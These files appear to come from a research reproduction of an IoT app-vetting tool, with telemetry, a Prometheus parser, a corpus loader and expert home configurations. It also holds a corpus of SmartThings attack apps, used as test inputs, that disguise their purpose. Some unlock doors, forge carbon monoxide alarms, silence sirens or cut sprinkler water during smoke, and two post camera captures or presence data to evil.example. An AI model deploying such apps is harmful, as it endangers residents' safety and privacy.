        event = {"v": TELEMETRY_SCHEMA_VERSION, "kind": kind,
                 "elapsed": round(time.monotonic() - self.started, 6)}
        if self.config.job is not None:
            event["job"] = self.config.job
        event.update(fields)
        if self._sink is not None:
            self._sink.write(json.dumps(event, sort_keys=True) + "\n")
        return event

    # -- the event vocabulary ----------------------------------------------

    def run_start(self, options=None, workers=1):
        """Record the run's shape (wall timestamp + the knobs a report
        reader needs to label the timeline)."""
        fields = {"ts": time.time(), "workers": workers}
        if options is not None:
            fields.update({
                "max_events": options.max_events,
                "mode": options.mode,
                "engine": options.engine,
                "visited": options.visited,
                "strategy": options.strategy,
                "scenario": options.scenario,
            })
            if options.mode == "swarm":
                fields["seed"] = options.seed
                fields["swarm_members"] = options.swarm_members
        self._emit("run_start", fields)

    def snapshot(self, fields):
        """One progress snapshot (engine- or cluster-wide): sink line,
        meter repaint, board publication."""
        self._emit("snapshot", fields)
        if self._meter is not None:
            self._meter.update(fields)
        if self.config.job is not None:
            PROGRESS_BOARD.publish(self.config.job, fields)

    def shard_snapshot(self, fields):
        """One worker's forwarded snapshot (sharded runs only)."""
        self._emit("shard_snapshot", fields)

    def span(self, name, seconds):
        self._emit("span", {"name": name, "seconds": round(seconds, 6)})

    def swarm_member(self, fields):
        """One swarm member's completed-search summary
        (:mod:`repro.engine.swarm` emits one per member)."""
        self._emit("swarm_member", fields)

    def warning(self, name, **fields):
        """A named run-health warning (e.g. ``bitstate_saturation``).

        Each emission increments the session's per-name counter and the
        event carries the running ``count``, so a sink reader can both
        see every occurrence and cheaply report totals.
        """
        self.warning_counts[name] = self.warning_counts.get(name, 0) + 1
        payload = {"name": name, "count": self.warning_counts[name]}
        payload.update(fields)
        self._emit("warning", payload)

    def run_end(self, result):
        """The run's outcome; also published as the final board state."""
        fields = {
            "verdict": result.verdict,
            "violations": len(result.counterexamples),
            "states": result.states_explored,
            "transitions": result.transitions,
            "run_elapsed": round(result.elapsed, 6),
            "truncated": result.truncated,
            "truncated_reason": result.truncated_reason,
            "workers": result.workers,
        }
        self._emit("run_end", fields)
        if self.config.job is not None:
            final = dict(fields)
            final["final"] = True
            PROGRESS_BOARD.publish(self.config.job, final)

    def close(self):
        if self._meter is not None:
            self._meter.close()
            self._meter = None
        if self._sink is not None:
            self._sink.close()
            self._sink = None


def open_session(config):
    """A :class:`TelemetrySession` for ``config``, or ``None`` when
    telemetry is off (the engine's hot path branches on that None)."""
    config = resolve_telemetry(config)
    if config is None or not config.enabled:
        return None
    return TelemetrySession(config)


def read_events(path):
    """Parse a telemetry JSONL sink; refuses newer schema versions.

    Blank lines are skipped (concurrent appenders sync at line
    granularity); a malformed line raises ``ValueError`` with its line
    number, so a truncated tail is diagnosable.
    """
    events = []
    with open(path, "r", encoding="utf-8") as handle:
        for number, line in enumerate(handle, 1):
            line = line.strip()
            if not line:
                continue
            try:
                event = json.loads(line)
            except json.JSONDecodeError as exc:
                raise ValueError("%s line %d is not valid JSON: %s"
                                 % (path, number, exc))
            version = event.get("v", TELEMETRY_SCHEMA_VERSION)
            if version > TELEMETRY_SCHEMA_VERSION:
                raise ValueError(
                    "%s line %d has telemetry schema version %d; this "
                    "build reads <= %d"
                    % (path, number, version, TELEMETRY_SCHEMA_VERSION))
            events.append(event)
    return events
