"""Prometheus text exposition (format 0.0.4): render and parse.

Stdlib-only on purpose, like the rest of the service: the ``/metrics``
endpoint renders a :class:`~repro.obs.telemetry.MetricsRegistry` to the
text format every Prometheus-compatible scraper speaks, and
:func:`parse_exposition` is the inverse used by the smoke test and the
endpoint's own tests (asserting the format *parses* is the contract -
a scraper is stricter than ``assert "repro_" in body``).
"""

#: the Content-Type a text-format scrape answer must carry
CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"


def _escape_help(text):
    return text.replace("\\", "\\\\").replace("\n", "\\n")


def _escape_label(value):
    return (str(value).replace("\\", "\\\\").replace("\n", "\\n")
            .replace('"', '\\"'))


def _format_value(value):
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, int):
        return str(value)
    return repr(float(value))


def render_exposition(registry):
    """A registry as text exposition: ``# HELP``/``# TYPE`` headers and
    one sample line per label set, newline-terminated."""
    lines = []
    for metric in registry.families():
        if metric.help:
            lines.append("# HELP %s %s"
                         % (metric.name, _escape_help(metric.help)))
        lines.append("# TYPE %s %s" % (metric.name, metric.kind))
        for labels, value in metric.samples():
            if labels:
                rendered = ",".join(
                    '%s="%s"' % (key, _escape_label(labels[key]))
                    for key in sorted(labels))
                lines.append("%s{%s} %s"
                             % (metric.name, rendered, _format_value(value)))
            else:
                lines.append("%s %s" % (metric.name, _format_value(value)))
    return "\n".join(lines) + "\n"


def parse_exposition(text):
    """Parse text exposition into ``{name: {label tuple: value}}``.

    The label tuple is ``(("job", "job-1"), ...)`` sorted by label name
    (empty for unlabelled samples).  Raises ``ValueError`` on a line
    that is neither a comment nor a well-formed sample - the checking
    half of the smoke test's "counters advance" assertion.
    """
    samples = {}
    for number, line in enumerate(text.splitlines(), 1):
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        name_part, _, value_part = line.rpartition(" ")
        name_part = name_part.strip()
        if not name_part or not value_part:
            raise ValueError("exposition line %d is malformed: %r"
                             % (number, line))
        labels = ()
        if "{" in name_part:
            if not name_part.endswith("}"):
                raise ValueError("exposition line %d has unclosed labels: %r"
                                 % (number, line))
            name, label_body = name_part[:-1].split("{", 1)
            labels = tuple(sorted(_parse_labels(label_body, number)))
        else:
            name = name_part
        if not name.replace("_", "").replace(":", "").isalnum():
            raise ValueError("exposition line %d has a bad metric name: %r"
                             % (number, name))
        try:
            value = float(value_part)
        except ValueError:
            raise ValueError("exposition line %d has a bad value: %r"
                             % (number, value_part))
        samples.setdefault(name, {})[labels] = value
    return samples


def _parse_labels(body, number):
    labels = []
    for item in filter(None, (part.strip() for part in _split_labels(body))):
        key, eq, raw = item.partition("=")
        if not eq or not (raw.startswith('"') and raw.endswith('"')
                          and len(raw) >= 2):
            raise ValueError("exposition line %d has a bad label: %r"
                             % (number, item))
        value = (raw[1:-1].replace('\\"', '"').replace("\\n", "\n")
                 .replace("\\\\", "\\"))
        labels.append((key.strip(), value))
    return labels


def _split_labels(body):
    """Split ``a="x",b="y,z"`` on commas outside quoted values."""
    parts = []
    current = []
    in_quotes = False
    escaped = False
    for char in body:
        if escaped:
            current.append(char)
            escaped = False
            continue
        if char == "\\":
            current.append(char)
            escaped = True
            continue
        if char == '"':
            in_quotes = not in_quotes
            current.append(char)
            continue
        if char == "," and not in_quotes:
            parts.append("".join(current))
            current = []
            continue
        current.append(char)
    if current:
        parts.append("".join(current))
    return parts
