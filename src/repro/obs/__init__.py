"""Run observability: telemetry, live progress, metrics, run reports.

The paper's vetting story is continuous - "every app-store submission" -
and a continuous service is only operable with continuous visibility.
This package is the telemetry layer threaded through every tier:

* :mod:`repro.obs.telemetry` - counters/gauges/spans, the versioned
  JSONL event sink behind ``EngineOptions(telemetry=...)`` /
  ``--telemetry-out``, and the in-process progress board the service's
  ``/jobs/<id>/progress`` endpoint reads;
* :mod:`repro.obs.progress` - the opt-in single-line stderr meter for
  ``repro check --progress``;
* :mod:`repro.obs.prometheus` - the text exposition renderer (and
  parser) behind the service's ``/metrics`` endpoint;
* :mod:`repro.obs.report` - ``repro report RUN.jsonl``: a run timeline
  (phase spans, throughput sparkline, per-shard table) from the sink.

Telemetry is a pure observer: verdicts, violation sets, traces and the
vetting service's semantic digests are byte-identical with it on or off
(pinned by ``tests/test_telemetry.py``).
"""

from repro.obs.prometheus import parse_exposition, render_exposition
from repro.obs.report import render_report
from repro.obs.telemetry import (
    PROGRESS_BOARD,
    TELEMETRY_SCHEMA_VERSION,
    Counter,
    Gauge,
    MetricsRegistry,
    ProgressBoard,
    Span,
    TelemetryConfig,
    TelemetrySession,
    read_events,
    resolve_telemetry,
)

__all__ = [
    "Counter",
    "Gauge",
    "MetricsRegistry",
    "PROGRESS_BOARD",
    "ProgressBoard",
    "Span",
    "TELEMETRY_SCHEMA_VERSION",
    "TelemetryConfig",
    "TelemetrySession",
    "parse_exposition",
    "read_events",
    "render_exposition",
    "render_report",
    "resolve_telemetry",
]
