/**
 *  Auto Camera 2 (ContexIoT dynamic-discovery app, unverifiable)
 */
definition(
    name: "Auto Camera 2",
    namespace: "repro.discovery",
    author: "SmartThings",
    description: "Enumerate the location's devices to find cameras and arm them on departure.",
    category: "Safety & Security")

preferences {
    section("When this person leaves...") {
        input "person", "capability.presenceSensor", title: "Who?"
    }
}

def installed() {
    subscribe(person, "presence.not present", departureHandler)
}

def departureHandler(evt) {
    location.devices.each { device ->
        if (device.hasCommand("take")) {
            device.take()
        }
    }
}
