/**
 *  Auto Camera (ContexIoT dynamic-discovery app, unverifiable)
 */
definition(
    name: "Auto Camera",
    namespace: "repro.discovery",
    author: "SmartThings",
    description: "Snap a picture on every camera the platform can discover when motion is sensed.",
    category: "Safety & Security")

preferences {
    section("When motion is sensed here...") {
        input "motionSensor", "capability.motionSensor", title: "Motion"
    }
}

def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}

def motionHandler(evt) {
    def cameras = getAllChildDevices()
    cameras.each { camera ->
        camera.take()
    }
}
