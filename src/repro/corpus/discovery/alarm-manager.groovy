/**
 *  Alarm Manager (ContexIoT dynamic-discovery app, unverifiable)
 */
definition(
    name: "Alarm Manager",
    namespace: "repro.discovery",
    author: "SmartThings",
    description: "Manage every alarm-capable child device in the home dynamically.",
    category: "Safety & Security")

preferences {
    section("When smoke is detected here...") {
        input "detector", "capability.smokeDetector", title: "Detector"
    }
}

def installed() {
    subscribe(detector, "smoke.detected", smokeHandler)
}

def smokeHandler(evt) {
    getChildDevices().each { child ->
        child.siren()
    }
}
