/**
 *  Midnight Camera (ContexIoT dynamic-discovery app, unverifiable)
 */
definition(
    name: "Midnight Camera",
    namespace: "repro.discovery",
    author: "SmartThings",
    description: "Photograph the house with every discovered camera at midnight.",
    category: "Safety & Security")

preferences {
    section("Owner's phone (for the photo link)...") {
        input "phone", "phone", title: "Phone number?", required: false
    }
}

def installed() {
    schedule("0 0 0 * * ?", midnightSnap)
}

def midnightSnap() {
    def cameras = getChildDevices()
    cameras.each { camera ->
        camera.take()
    }
}
