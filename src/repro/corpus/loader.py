"""Corpus loading: parse the bundled ``.groovy`` sources once and cache."""

import os

from repro.smartapp import load_app

_CORPUS_DIR = os.path.dirname(os.path.abspath(__file__))
_CACHE = {}


class CorpusMissingError(FileNotFoundError):
    """A bundled corpus directory is absent from the installation.

    Subclasses :class:`FileNotFoundError` so callers that guarded against
    the old bare error keep working, while the message explains *which*
    corpus collection is missing and where it was expected.
    """

    def __init__(self, subdir, directory):
        self.subdir = subdir
        self.directory = directory
        super().__init__(
            "corpus collection %r is missing (expected .groovy sources "
            "under %s); the bundled corpus ships inside the repro package "
            "- reinstall the package or restore src/repro/corpus/%s/"
            % (subdir, directory, subdir))


def corpus_path(*parts):
    """Absolute path inside the corpus package."""
    return os.path.join(_CORPUS_DIR, *parts)


def _load_dir(subdir):
    if subdir in _CACHE:
        return dict(_CACHE[subdir])
    directory = corpus_path(subdir)
    if not os.path.isdir(directory):
        raise CorpusMissingError(subdir, directory)
    apps = {}
    for filename in sorted(os.listdir(directory)):
        if not filename.endswith(".groovy"):
            continue
        path = os.path.join(directory, filename)
        with open(path, "r", encoding="utf-8") as handle:
            source = handle.read()
        app = load_app(source, filename)
        apps[app.name] = app
    _CACHE[subdir] = dict(apps)
    return apps


def load_market_apps():
    """name -> SmartApp for every market app in the corpus."""
    return _load_dir("market")


def load_malicious_apps():
    """name -> SmartApp for the nine ContexIoT-style malicious apps."""
    return _load_dir("malicious")


def load_discovery_apps():
    """The four ContexIoT apps using dynamic device discovery (§10.1).

    IotSan cannot model-check these ("we will extend IotSan to handle
    such apps in future work"); :mod:`repro.smartapp.discovery` detects
    and flags them instead.
    """
    return _load_dir("discovery")


def _parse_app_files(paths):
    """Yield ``(SmartApp, raw source)`` per ``.groovy`` file.

    The submit-from-file path of the vetting service: apps a user uploads
    for vetting are parsed exactly like bundled corpus sources and can be
    overlaid onto the corpus registry.
    """
    for path in paths:
        with open(path, "r", encoding="utf-8") as handle:
            source = handle.read()
        yield load_app(source, os.path.basename(path)), source


def load_app_files(paths):
    """name -> SmartApp for arbitrary ``.groovy`` files outside the corpus."""
    return {app.name: app for app, _source in _parse_app_files(paths)}


def read_app_sources(paths):
    """name -> raw Groovy source for ``.groovy`` files outside the corpus.

    The wire form of submit-from-file: raw text serializes into a
    ``POST /submit`` payload (and pickles into worker processes) without
    shipping parsed ASTs; each consumer parses on first use.
    """
    return {app.name: source for app, source in _parse_app_files(paths)}


def load_all_apps():
    """The combined *analyzable* registry (market + malicious).

    Dynamic-discovery apps are deliberately excluded; load them with
    :func:`load_discovery_apps` and vet them with
    :func:`repro.smartapp.scan_app`.
    """
    registry = load_market_apps()
    registry.update(load_malicious_apps())
    return registry
