"""Experiment groups and expert configurations (§10.1).

The paper randomly divides 150 market apps into six groups of 25 and gives
each group one expert configuration.  Our corpus carries one representative
implementation per distinct behaviour, so the six groups below partition the
corpus by theme; each group ships a full expert configuration (devices,
bindings, contacts, association roles) authored the way §10.1 describes
("based on common sense with regards to how the apps may be used").

``VOLUNTEER_GROUPS`` are the ten ~5-app groups of the §10.1 user study,
configured by the seven volunteer profiles in
:mod:`repro.attribution.volunteers`.
"""

from repro.config.schema import SystemConfiguration

#: the household's configured contacts (for the P42 recipient check)
CONTACTS = ["+1-555-0100"]


def _base_devices(config):
    """Devices shared by all groups (one physical home)."""
    config.add_device("alicePresence", "smartsense-presence", "Alice's Presence")
    config.add_device("bobPresence", "smartsense-presence", "Bob's Presence")
    config.add_device("frontDoorLock", "zwave-lock", "Front Door Lock")
    config.add_device("frontContact", "smartsense-multi", "Front Door Contact")
    config.add_device("livRoomMotion", "smartsense-motion", "Living Room Motion")
    config.add_device("livRoomBulbOutlet", "smart-outlet", "Living Room Bulb Outlet")
    config.add_device("bedRoomBulbOutlet", "smart-outlet", "Bedroom Bulb Outlet")
    return config


GROUP_BUILDERS = {}


def _group(name):
    def register(builder):
        GROUP_BUILDERS[name] = builder
        return builder
    return register


@_group("group1-entry-and-mode")
def _group1():
    """The Fig. 7 / Fig. 8a cluster: presence, modes, locks, lights."""
    config = _base_devices(SystemConfiguration(contacts=CONTACTS))
    config.association.update({
        "main_door_lock": "frontDoorLock",
        "night_light": "livRoomBulbOutlet",
    })
    config.add_app("Auto Mode Change", {
        "people": ["alicePresence", "bobPresence"],
        "awayMode": "Away", "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "frontDoorLock"})
    config.add_app("Big Turn On", {
        "switches": ["livRoomBulbOutlet", "bedRoomBulbOutlet"]})
    config.add_app("Good Night", {
        "lights": ["livRoomBulbOutlet", "bedRoomBulbOutlet"],
        "motionSensor": "livRoomMotion", "nightMode": "Night"})
    config.add_app("Light Follows Me", {
        "motion1": "livRoomMotion", "minutes1": 1,
        "switches": ["livRoomBulbOutlet"]})
    config.add_app("Light Off When Close", {
        "contact1": "frontContact", "switches": ["bedRoomBulbOutlet"]})
    config.add_app("Lock It At Night", {
        "locks": ["frontDoorLock"], "nightMode": "Night"})
    return config


@_group("group2-lighting")
def _group2():
    """Lighting automations with on/off conflicts (Table 5 rows 1-2)."""
    config = _base_devices(SystemConfiguration(contacts=CONTACTS))
    config.add_device("hallIlluminance", "illuminance-sensor", "Hall Illuminance")
    config.add_device("hallButton", "button-controller", "Hall Button")
    config.add_app("Brighten Dark Places", {
        "contact1": "frontContact", "lightSensor": "hallIlluminance",
        "switch1": "livRoomBulbOutlet"})
    config.add_app("Let There Be Dark!", {
        "contact1": "frontContact", "switches": ["livRoomBulbOutlet"]})
    config.add_app("Brighten My Path", {
        "motion1": "livRoomMotion", "switch1": "bedRoomBulbOutlet"})
    config.add_app("Automated Light", {
        "motion1": "livRoomMotion", "switch1": "bedRoomBulbOutlet",
        "delayMinutes": 5})
    config.add_app("Smart Nightlight", {
        "lights": ["livRoomBulbOutlet"], "motionSensor": "livRoomMotion",
        "lightSensor": "hallIlluminance", "luxLevel": 30})
    config.add_app("Darken Behind Me", {
        "motion1": "livRoomMotion", "switches": ["bedRoomBulbOutlet"]})
    config.add_app("Switch Mirror", {
        "master": "livRoomBulbOutlet", "slaves": ["bedRoomBulbOutlet"]})
    config.add_app("Double Tap Toggle", {
        "button1": "hallButton", "lights": ["livRoomBulbOutlet"]})
    return config


@_group("group3-climate")
def _group3():
    """Heating/cooling: Virtual Thermostat and friends."""
    config = _base_devices(SystemConfiguration(contacts=CONTACTS))
    config.add_device("myTempMeas", "temperature-sensor", "Indoor Temperature")
    config.add_device("myHeaterOutlet", "smart-outlet", "Heater Outlet")
    config.add_device("myACOutlet", "smart-outlet", "AC Outlet")
    config.add_device("homeThermostat", "thermostat", "Thermostat")
    config.add_device("homeEnergyMeter", "energy-meter", "Energy Meter")
    config.add_device("bathHumidity", "humidity-sensor", "Bathroom Humidity")
    config.add_device("bathFanOutlet", "smart-outlet", "Bathroom Fan Outlet")
    config.association.update({
        "temp_sensor": "myTempMeas",
        "heater_outlet": "myHeaterOutlet",
        "ac_outlet": "myACOutlet",
        "fan_outlet": "bathFanOutlet",
        "temp_low": 65, "temp_high": 85,
    })
    # Expert configuration of Virtual Thermostat per §10.1: AC outlet only,
    # setpoint 75, living-room motion, emergency setpoint 85, mode "cool".
    config.add_app("Virtual Thermostat", {
        "sensor": "myTempMeas", "outlets": ["myACOutlet"], "setpoint": 75,
        "motion": "livRoomMotion", "minutes": 10, "emergencySetpoint": 85,
        "mode": "cool"})
    config.add_app("It's Too Cold", {
        "temperatureSensor1": "myTempMeas", "temperature1": 65,
        "phone1": CONTACTS[0], "heater": "myHeaterOutlet"})
    config.add_app("Too Hot Cooler", {
        "sensor": "myTempMeas", "maxTemp": 85, "ac": "myACOutlet"})
    config.add_app("Energy Saver", {
        "meter": "homeEnergyMeter", "threshold": 1000,
        "devices": ["myHeaterOutlet", "myACOutlet"]})
    config.add_app("Keep Me Cozy", {
        "thermostat": "homeThermostat", "sensor": "myTempMeas",
        "setpoint": 72})
    config.add_app("Open Window Thermostat Off", {
        "contacts": ["frontContact"], "thermostat": "homeThermostat",
        "restoreMode": "auto"})
    config.add_app("Humidity Fan", {
        "humidity": "bathHumidity", "fan": "bathFanOutlet",
        "maxHumidity": 60})
    return config


@_group("group4-security")
def _group4():
    """Alarms, smoke/CO, cameras - and the app that silences them."""
    config = _base_devices(SystemConfiguration(contacts=CONTACTS))
    config.add_device("homeAlarm", "siren-strobe", "Siren/Strobe Alarm")
    config.add_device("kitchenSmoke", "smoke-detector", "Kitchen Smoke Detector")
    config.add_device("garageCO", "co-detector", "Garage CO Detector")
    config.add_device("hallCamera", "ip-camera", "Hallway Camera")
    config.add_device("heaterOutlet", "smart-outlet", "Heater Outlet")
    config.add_device("ventFanOutlet", "smart-outlet", "Ventilation Fan Outlet")
    config.association.update({
        "alarm": "homeAlarm", "siren": "homeAlarm",
        "heater_outlet": "heaterOutlet", "fan_outlet": "ventFanOutlet",
    })
    config.add_app("Intruder Alert", {
        "entry": "frontContact", "alarmDevice": "homeAlarm",
        "camera": "hallCamera", "phone": CONTACTS[0]})
    config.add_app("Smoke Alarm Siren", {
        "smoke": "kitchenSmoke", "siren": "homeAlarm"})
    config.add_app("Smart Alarm Disarm", {
        "alarmDevice": "homeAlarm", "disarmMode": "Home"})
    config.add_app("CO Ventilator", {
        "detector": "garageCO", "fan": "ventFanOutlet"})
    config.add_app("Camera On Motion", {
        "motionSensor": "livRoomMotion", "camera": "hallCamera",
        "armedMode": "Away"})
    config.add_app("Undead Early Warning", {
        "door": "frontContact", "lights": ["livRoomBulbOutlet"],
        "nightMode": "Night"})
    config.add_app("Fire Escape Unlock", {
        "detectors": ["kitchenSmoke"], "locks": ["frontDoorLock"]})
    config.add_app("Smoke Heater Off", {
        "detector": "kitchenSmoke", "heaters": ["heaterOutlet"]})
    return config


@_group("group5-water-presence")
def _group5():
    """Water control plus arrival/departure automations."""
    config = _base_devices(SystemConfiguration(contacts=CONTACTS))
    config.add_device("basementLeak", "moisture-sensor", "Basement Leak Sensor")
    config.add_device("mainValve", "smart-valve", "Main Water Valve")
    config.add_device("gardenSprinkler", "smart-outlet", "Garden Sprinkler Outlet")
    config.add_device("gardenMoisture", "humidity-sensor", "Garden Moisture")
    config.add_device("patioSpeaker", "speaker", "Patio Speaker")
    config.association.update({
        "leak_shutoff_valve": "mainValve",
        "water_valve": "mainValve",
        "sprinkler_outlet": "gardenSprinkler",
    })
    config.add_app("Leak Shutoff", {
        "sensors": ["basementLeak"], "valve": "mainValve"})
    config.add_app("Smart Sprinkler", {
        "sprinkler": "gardenSprinkler", "rain": "basementLeak",
        "soil": "gardenMoisture", "minMoisture": 30})
    config.add_app("Night Valve Watering", {
        "valve": "mainValve", "duration": 15})
    config.add_app("Nobody Home Lockup", {
        "people": ["alicePresence", "bobPresence"],
        "locks": ["frontDoorLock"], "awayMode": "Away"})
    config.add_app("Welcome Home", {
        "person": "alicePresence", "frontLock": "frontDoorLock",
        "lights": ["livRoomBulbOutlet"], "homeMode": "Home"})
    config.add_app("Presence Light", {
        "person": "bobPresence", "light": "bedRoomBulbOutlet"})
    config.add_app("Away Speaker Off", {
        "people": ["alicePresence", "bobPresence"],
        "players": ["patioSpeaker"]})
    config.add_app("Bon Voyage", {
        "people": ["alicePresence", "bobPresence"],
        "lights": ["livRoomBulbOutlet", "bedRoomBulbOutlet"]})
    return config


@_group("group6-schedules-misc")
def _group6():
    """Schedules, vacation lighting, garage, laundry."""
    config = _base_devices(SystemConfiguration(contacts=CONTACTS))
    config.add_device("garageDoor", "garage-door-opener", "Garage Door")
    config.add_device("bedShade", "window-shade", "Bedroom Window Shade")
    config.add_device("washerMeter", "energy-meter", "Washer Power Meter")
    config.add_device("doorAccel", "acceleration-sensor", "Door Knock Sensor")
    config.association.update({
        "away_off_switches": ["livRoomBulbOutlet", "bedRoomBulbOutlet"],
    })
    config.add_app("Scheduled Mode Change", {"targetMode": "Night"})
    config.add_app("Rise And Shine", {
        "motionSensor": "livRoomMotion", "coffee": "bedRoomBulbOutlet",
        "nightMode": "Night", "dayMode": "Home"})
    config.add_app("Vacation Lighting", {
        "lights": ["livRoomBulbOutlet", "bedRoomBulbOutlet"],
        "awayMode": "Away"})
    config.add_app("Goodbye Switches", {
        "switches": ["livRoomBulbOutlet", "bedRoomBulbOutlet"],
        "awayMode": "Away"})
    config.add_app("Sunset Lights", {"lights": ["livRoomBulbOutlet"]})
    config.add_app("Window Shade Away", {
        "shades": ["bedShade"], "awayMode": "Away"})
    config.add_app("Garage Door Closer", {
        "garage": "garageDoor", "openMinutes": 10})
    config.add_app("Auto Lock Door", {
        "door": "frontContact", "doorLock": "frontDoorLock", "delayMin": 2})
    config.add_app("Medicine Reminder", {
        "cabinet": "frontContact", "phone": CONTACTS[0]})
    config.add_app("Laundry Monitor", {
        "meter": "washerMeter", "minWatts": 50})
    config.add_app("Low Battery Alert", {
        "batteries": ["alicePresence"], "minLevel": 20})
    config.add_app("Door Knocker", {
        "knockSensor": "doorAccel", "openSensor": "frontContact"})
    config.add_app("Make It So", {
        "motionSensor": "livRoomMotion", "door": "frontContact",
        "locks": ["frontDoorLock"], "awayMode": "Away"})
    return config


EXPERT_GROUPS = tuple(sorted(GROUP_BUILDERS))


def group_names():
    return list(EXPERT_GROUPS)


def expert_configuration(group_name):
    """The expert :class:`SystemConfiguration` for one group."""
    builder = GROUP_BUILDERS.get(group_name)
    if builder is None:
        raise KeyError("unknown group %r" % (group_name,))
    return builder()


#: the §10.1 user-study groups: ten groups of about five related apps
VOLUNTEER_GROUPS = {
    "vgroup01": ["Auto Mode Change", "Unlock Door", "Lock It At Night",
                 "Welcome Home", "Nobody Home Lockup"],
    "vgroup02": ["Virtual Thermostat", "It's Too Cold", "Too Hot Cooler",
                 "Energy Saver"],
    "vgroup03": ["Brighten Dark Places", "Let There Be Dark!",
                 "Smart Nightlight", "Switch Mirror"],
    "vgroup04": ["Brighten My Path", "Automated Light", "Darken Behind Me",
                 "Light Follows Me", "Double Tap Toggle"],
    "vgroup05": ["Smoke Alarm Siren", "Smart Alarm Disarm", "Intruder Alert",
                 "Fire Escape Unlock", "Smoke Heater Off"],
    "vgroup06": ["Leak Shutoff", "Smart Sprinkler", "Night Valve Watering",
                 "Humidity Fan"],
    "vgroup07": ["Goodbye Switches", "Vacation Lighting", "Sunset Lights",
                 "Big Turn On"],
    "vgroup08": ["Keep Me Cozy", "Open Window Thermostat Off", "Bon Voyage",
                 "CO Ventilator"],
    "vgroup09": ["Good Night", "Rise And Shine", "Scheduled Mode Change",
                 "Undead Early Warning", "Light Off When Close"],
    "vgroup10": ["Make It So", "Auto Lock Door", "Garage Door Closer",
                 "Presence Light", "Camera On Motion"],
}


def volunteer_group_names():
    return sorted(VOLUNTEER_GROUPS)
