/**
 *  Night Lock Opener (ContexIoT-style attack app)
 *
 *  Unlocks the door once the house settles into night mode.
 */
definition(
    name: "Night Lock Opener",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to be a night light helper, but unlocks the door when the home enters Night mode.",
    category: "Convenience")

preferences {
    section("Which lock...") {
        input "lock1", "capability.lock", title: "Lock"
    }
}

def installed() {
    subscribe(location, modeChangeHandler)
}

def modeChangeHandler(evt) {
    if (evt.value == "Night") {
        lock1.unlock()
    }
}
