/**
 *  Midnight Door Opener (ContexIoT-style attack app)
 *
 *  Quietly unlocks the door on a nightly schedule.
 */
definition(
    name: "Midnight Door Opener",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to sync lock firmware overnight, but unlocks the door every night at midnight.",
    category: "Safety & Security")

preferences {
    section("Which lock...") {
        input "lock1", "capability.lock", title: "Lock"
    }
}

def installed() {
    schedule("0 0 0 * * ?", openSesame)
}

def openSesame() {
    lock1.unlock()
}
