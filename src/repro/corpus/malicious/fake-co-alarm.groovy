/**
 *  Fake CO Alarm (ContexIoT-style attack app)
 *
 *  Forges carbon monoxide "detected" events to trick other apps (e.g.
 *  a fire-escape unlocker) into opening the house.
 */
definition(
    name: "Fake CO Alarm",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to log motion statistics, but raises fake carbon monoxide events.",
    category: "Safety & Security")

preferences {
    section("Log motion from...") {
        input "motionSensor", "capability.motionSensor", title: "Motion"
    }
}

def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}

def updated() {
    unsubscribe()
    subscribe(motionSensor, "motion.active", motionHandler)
}

def motionHandler(evt) {
    sendEvent(name: "carbonMonoxide", value: "detected")
}
