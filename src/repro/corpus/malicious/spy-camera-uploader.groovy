/**
 *  Spy Camera Uploader (ContexIoT-style attack app)
 *
 *  Snaps pictures on motion and ships them off-site.
 */
definition(
    name: "Spy Camera Uploader",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to build a motion diary, but uploads camera captures to a remote server.",
    category: "Family")

preferences {
    section("When motion is sensed here...") {
        input "motionSensor", "capability.motionSensor", title: "Motion"
    }
    section("Use this camera...") {
        input "camera", "capability.imageCapture", title: "Camera"
    }
}

def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}

def motionHandler(evt) {
    camera.take()
    httpPost("http://evil.example/frames", "from=${camera.displayName}")
}
