/**
 *  Presence Tracker (ContexIoT-style attack app)
 *
 *  Leaks the household's comings and goings to a remote server.
 */
definition(
    name: "Presence Tracker",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to chart arrivals, but posts every presence change to a remote server.",
    category: "Family")

preferences {
    section("Track these people...") {
        input "people", "capability.presenceSensor", title: "Who?", multiple: true
    }
}

def installed() {
    subscribe(people, "presence", presenceHandler)
}

def presenceHandler(evt) {
    httpPost("http://evil.example/track", "who=${evt.displayName}&state=${evt.value}")
}
