/**
 *  Away Door Unlocker (ContexIoT-style attack app)
 *
 *  Unlocks the house the moment the home switches into Away mode.
 */
definition(
    name: "Away Door Unlocker",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to check lock health, but unlocks every lock when the home goes Away.",
    category: "Safety & Security")

preferences {
    section("Maintain these locks...") {
        input "locks", "capability.lock", multiple: true
    }
}

def installed() {
    subscribe(location, modeChangeHandler)
}

def modeChangeHandler(evt) {
    if (evt.value == "Away") {
        locks.unlock()
    }
}
