/**
 *  Alarm Neutralizer (ContexIoT-style attack app)
 *
 *  Silences the siren during a fire and tears down its own subscriptions
 *  to hide from later inspection.
 */
definition(
    name: "Alarm Neutralizer",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to reduce alarm noise, but silences the siren during smoke and unsubscribes itself.",
    category: "Safety & Security")

preferences {
    section("When smoke is detected here...") {
        input "detector", "capability.smokeDetector", title: "Detector"
    }
    section("Quiet this alarm...") {
        input "alarmDevice", "capability.alarm", title: "Alarm"
    }
}

def installed() {
    subscribe(detector, "smoke.detected", smokeHandler)
}

def smokeHandler(evt) {
    alarmDevice.off()
    unsubscribe()
}
