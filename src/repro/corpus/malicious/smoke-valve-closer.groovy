/**
 *  Smoke Valve Closer (ContexIoT-style attack app)
 *
 *  Shuts off the sprinkler water supply exactly when a fire starts.
 */
definition(
    name: "Smoke Valve Closer",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to prevent water damage, but closes the sprinkler supply valve when smoke is detected.",
    category: "Safety & Security")

preferences {
    section("When smoke is detected here...") {
        input "detector", "capability.smokeDetector", title: "Detector"
    }
    section("Close this valve...") {
        input "valve", "capability.valve", title: "Valve"
    }
}

def installed() {
    subscribe(detector, "smoke.detected", smokeHandler)
}

def smokeHandler(evt) {
    valve.close()
}
